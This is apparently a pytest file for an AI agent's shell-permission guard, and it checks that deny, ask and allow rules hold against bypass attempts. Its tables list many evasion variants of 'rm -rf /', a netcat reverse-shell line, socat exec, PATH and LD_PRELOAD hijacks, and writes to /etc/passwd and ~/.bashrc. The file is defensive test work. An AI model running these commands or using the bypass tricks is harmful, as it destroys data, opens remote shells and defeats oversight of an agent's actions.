"""Permission rules: the order, the patterns, and everything that tries to get past them."""

from __future__ import annotations

from typing import Any

import pytest

from agentsite.manifest.blocks import Permissions
from agentsite.tools.permissions import Guard
from tests.requirements import requirement
from tests.tools.rules import OTHER, SHELL, judge


@requirement("agent.permissions")
def test_deny_comes_before_ask_before_allow_before_the_mode() -> None:
    every = {"deny": ("other(a*)",), "ask": ("other(ab*)",), "allow": ("other(*)",), "mode": "deny"}
    assert judge(every, x="abc") == "deny"
    assert judge({**every, "deny": ()}, x="abc") == "ask"
    assert judge({**every, "deny": ()}, x="xyz") == "allow"
    assert judge({"mode": "ask"}, x="xyz") == "ask"
    assert judge({"mode": "deny", "allow": ("oth*",)}, x="xyz") == "allow"
    assert judge({}, x="xyz") == "allow"


def test_the_reason_names_the_rule() -> None:
    verdict = Guard(Permissions(deny=("other",))).judge(OTHER, {})
    assert (verdict.decision, verdict.reason) == ("deny", "the rule other says so")


@requirement("agent.guards-fail-closed")
def test_a_guard_that_fails_refuses() -> None:
    class Odd(dict[str, Any]):
        def get(self, *_: Any) -> Any:
            raise RuntimeError("boom")

    assert Guard(Permissions(allow=("shell_exec",))).judge(SHELL, Odd()).decision == "deny"


DENY_SHELL = {"deny": ("shell_exec(rm -rf *)", "shell_exec(git push *)", "shell_exec(curl:*)")}
DENIED = """
rm -rf /
rm -fr /
rm -r -f /
rm -r -v -f /
rm --recursive --force /
/bin/rm -rf /
/usr/bin/../bin/rm -rf /
\\rm -rf /
r\\m -rf /
'rm' -rf /
r''m -rf /
"r"m "-rf" /
rm\\
 -rf /
ls; rm -rf /
ls && rm -rf /
ls || rm -rf /
ls | rm -rf /
ls & rm -rf /
ls &rm -rf /
(rm -rf /)
{ rm -rf /; }
if true; then rm -rf /; fi
for f in a; do rm -rf $f; done
while rm -rf /; do true; done
case a in a) rm -rf /;; esac
! rm -rf /
f() { rm -rf /; }; f
echo $(rm -rf /)
echo `rm -rf /`
echo "a $(rm -rf /) b"
echo ${x:-$(rm -rf /)}
cat <(rm -rf /)
x=$(rm -rf /)
echo $((a[$(rm -rf /)]))
cat <<EOF
$(rm -rf /)
EOF
a=rm; $a -rf /
a=rm b=-rf; ${a} $b /
$(echo rm) -rf /
`echo rm` -rf /
{rm,-rf,/}
/bin/r? -rf /
rm${IFS}-rf${IFS}/
$'\\x72m' -rf /
$"rm" -rf /
rm $flags /
FOO=1 rm -rf /
>out rm -rf /
2>/dev/null rm -rf /
env rm -rf /
env -S "rm -rf /"
env -i FOO=1 rm -rf /
sudo rm -rf /
sudo -u root rm -rf /
timeout 5 rm -rf /
nohup nice -n 5 rm -rf /
command rm -rf /
exec rm -rf /
builtin eval rm -rf /
eval "rm -rf /"
eval 'r''m' -rf /
eval "$x"
trap 'rm -rf /' EXIT
coproc rm -rf /
time rm -rf /
xargs rm -rf
echo / | xargs rm
find . -exec rm -rf {} \\;
find . -exec sh -c 'rm -rf {}' \\;
bash -c 'rm -rf /'
bash -lc 'ls; rm -rf /'
sh -c "sh -c 'rm -rf /'"
bash -c "$x"
bash script.sh
echo 'rm -rf /' | sh
sh <<< 'rm -rf /'
sh <<EOF
rm -rf /
EOF
busybox rm -rf /
some-unknown-runner rm -rf /
python3 -c 'import os; os.system("rm -rf /")'
perl -e 'unlink'
awk 'BEGIN{system("rm -rf /")}'
sed 1e file
tar --checkpoint-action=exec=rm -cf a b
git -c alias.x='!rm -rf /' x
git -C dir push origin
git --no-pager push
git push
./script
dir/script
PATH=. ls
LD_PRELOAD=./x.so ls
export PATH=.; ls
source file
. file
alias ls='rm -rf /'
ld-linux-x86-64.so.2 /bin/rm -rf /
env -S'rm -rf /'
env -iS'rm -rf /'
env -Srm -rf /
env --split-string='rm -rf /'
env --split-string=rm -rf /
env -S'sh script'
script -c'rm -rf /' x
script --command='rm -rf /' x
echo 'rm -rf /' | script
echo 'rm -rf /' | su
echo 'rm -rf /' | sudo -s
echo 'rm -rf /' | unshare -r
flock l -c'rm -rf /'
echo rm -rf / | xargs env
echo rm -rf / | xargs nohup
echo -rf / | xargs nice -n 5 rm
xargs -a cmds env
xargs -a cmds sudo -u root
xargs -a cmds timeout 5
parallel < cmds
find . -exec {} \\;
find . -exec env {} \\;
git config alias.x '!rm -rf /'
git -C dir config core.pager 'rm -rf /'
git bisect run rm -rf /
git submodule foreach 'rm -rf /'
git filter-branch --tree-filter 'rm -rf /'
git difftool -x 'rm -rf /'
git mergetool
git some-alias
git $x
git rebase --exe='rm -rf /'
split --filter='rm -rf /' x
split --filt='rm -rf /' x
tar --checkpoint-a=exec=rm -cf a b
socat EXEC:'rm -rf /' -
nc -e /bin/sh host 1
curl http://x
ls;curl http://x
echo 'unclosed
ls <
ls\u2028rm -rf /
ls\x00rm -rf /
"""
PASSED = """
ls -la
rm one.txt
rm -r folder
echo rm -rf /
grep -r 'rm -rf /' .
git status && git log --oneline | head -3
git -C dir status
git add config submodule
git --version
split -l 5 file
ls | xargs wc -l
env FOO=1 ls -l
timeout 5 ls
chroot /x ls
find . -exec wc -l {} \\;
script -c 'ls -l' x
git commit -m 'push curl'
for f in *.txt; do cat "$f"; done
find . -name '*.py'
pytest -q tests/x.py
echo $HOME > out.txt
ls # rm -rf /
"""


def split_table(table: str) -> list[str]:
    """Entries of a table, one per line; a line that continues or fills a document joins on."""
    entries: list[str] = []
    until = ""
    for line in table.strip("\n").split("\n"):
        if until or (entries and entries[-1].endswith("\\")):
            entries[-1] += f"\n{line}"
            until = "" if line == until else until
        else:
            entries.append(line)
            until = "EOF" if "<<EOF" in line else ""
    return entries


@requirement("agent.shell-words")
@pytest.mark.parametrize("command", split_table(DENIED))
def test_nothing_gets_past_a_rule_that_denies(command: str) -> None:
    assert judge(DENY_SHELL, SHELL, command=command) == "deny"
    asking = {"ask": DENY_SHELL["deny"], "mode": "allow"}
    assert judge(asking, SHELL, command=command) == "ask"


@pytest.mark.parametrize("command", split_table(PASSED))
def test_what_a_rule_does_not_mean_passes(command: str) -> None:
    assert judge(DENY_SHELL, SHELL, command=command) == "allow"


def test_an_interpreter_that_a_rule_names_is_trusted() -> None:
    rules = {**DENY_SHELL, "allow": ("shell_exec(python -m pytest *)",)}
    assert judge(rules, SHELL, command="python -m pytest -q") == "allow"
    assert judge(rules, SHELL, command="python -m http.server") == "deny"
    assert judge(rules, SHELL, command="python -m pytest -q; rm -rf /") == "deny"
    assert judge(rules, SHELL, command="PATH=. python -m pytest -q") == "deny"


ALLOW_SHELL = {
    "mode": "deny",
    "allow": (
        "shell_exec(git status)",
        "shell_exec(git log *)",
        "shell_exec(ls:*)",
        "shell_exec(find *)",
        "shell_exec(timeout *)",
        "shell_exec(timeout 5 ls *)",
        "shell_exec(echo *)",
    ),
}
NOT_ALLOWED = """
git status -s
git status; rm x
git status && rm x
git status | sh
git status & rm x
git log $(rm x)
git log `rm x`
git log "$(rm x)"
git log <(rm x)
git log --output=/x
git -c core.pager=x log
GIT_PAGER=x git log
git log > /etc/passwd
echo x >> ~/.bashrc
echo x > file
ls < /etc/shadow
./ls
/tmp/ls
gIt status
$x
ls; $x
x=1
f() { ls; }
if ls; then ls; fi
for f in a; do ls; done
find . -exec rm {} \\;
find . -delete
find . $x
timeout 5 rm x
timeout 5 lsof
lsx
ls\trm; rm x
PATH=. ls
LD_PRELOAD=x ls
ls 'unclosed
ls <<< $(rm x)
ls <<EOF
EOF
exec 3>x
[[ -f x ]]
rm x

"""
ALLOWED = """
git status
git log --oneline -3
git log | ls
ls
ls -la src
ls *.py
ls && git status; ls 2>/dev/null
find . -name x
timeout 5 ls -la
echo "$HOME"
echo $(ls)
"""


@pytest.mark.parametrize("command", split_table(NOT_ALLOWED))
def test_only_what_a_rule_means_for_sure_is_allowed(command: str) -> None:
    assert judge(ALLOW_SHELL, SHELL, command=command) == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "git config alias.x '!rm -rf /'",
        "git bisect run rm -rf /",
        "git submodule foreach rm",
        "git filter-branch --tree-filter rm",
        "git difftool",
        "git mergetool",
        "git x",
        "git -C dir x",
        "git log --ext",
    ],
)
def test_a_rule_on_all_of_git_is_none_on_what_git_runs(command: str) -> None:
    rules = {"mode": "deny", "allow": ("shell_exec(git *)",)}
    assert judge(rules, SHELL, command=command) == "deny"
    assert judge(rules, SHELL, command="git -C dir log -3 && git add config") == "allow"
    named = {"mode": "deny", "allow": ("shell_exec(git bisect start *)",)}
    assert judge(named, SHELL, command="git bisect start HEAD v1") == "allow"


@pytest.mark.parametrize("command", split_table(ALLOWED))
def test_what_a_rule_means_is_allowed(command: str) -> None:
    assert judge(ALLOW_SHELL, SHELL, command=command) == "allow"
